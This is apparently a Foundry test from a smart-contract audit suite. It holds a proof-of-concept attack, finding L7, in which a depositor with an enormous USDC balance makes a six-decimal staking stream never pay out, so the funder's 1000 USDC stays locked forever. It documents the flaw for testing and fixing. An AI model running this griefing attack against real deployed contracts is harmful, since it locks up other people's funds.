// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IStaking} from "../../src/plans/staking/IStaking.sol";
import {StakingBase} from "../plans/staking/StakingBase.sol";
import {Attack} from "./Attack.sol";

/// @title A stream over a token of six decimals takes the funder's money and never flows (L7)
contract UnstreamableStakeAttack is StakingBase, Attack {
    function test_attack() public {
        IStaking made = plan(IStaking.Args(address(usdc), address(usdc), 1e18, 7 days, 1e6, 2000));
        vm.prank(funder);
        usdc.approve(address(made), type(uint256).max);
        fund(made, 1000e6);
        // A hundred billion USDC, more than there are.
        usdc.mint(ann, 100e9 * 1e6);
        vm.startPrank(ann);
        usdc.approve(address(made), type(uint256).max);
        made.deposit(100e9 * 1e6);
        vm.warp(START + 3650 days);
        uint256 held = made.reserve() - made.pendingOf(ann);
        vm.stopPrank();
        took("L7.unstreamable", held);
        vm.assertEq(held, 1000e6, "all of it stays for ever");
    }
}
